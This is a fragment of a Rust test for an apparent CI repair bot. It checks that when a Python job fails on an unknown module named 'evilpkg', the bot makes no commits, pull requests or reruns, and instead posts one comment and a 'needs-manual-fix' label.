    let n = analysed_issue_with(&fake, PY_WORKFLOW, missing_named_module_log("evilpkg")).await;
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fake.pulls().is_empty());
    assert!(
        fake.requests_to("POST", r"/git/").is_empty(),
        "nothing committed"
    );
    assert!(fake.dispatches().is_empty());
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    let c = &comments[0].body;
    assert!(
        c.starts_with(&format!("<!-- ci-medic:heal-manual:{n} -->")),
        "{c}"
    );
    assert!(c.contains("cannot tell which package"), "{c}");
    assert!(c.contains("`evilpkg`"), "{c}");
    assert!(
        fake.issue(n)
            .is_some_and(|i| i.labels.contains(&"needs-manual-fix".to_string()))
    );
    fake.expect_labels_created(&["needs-manual-fix"]);
    fake.expect_no_reruns();
    fake.assert_clean();
}
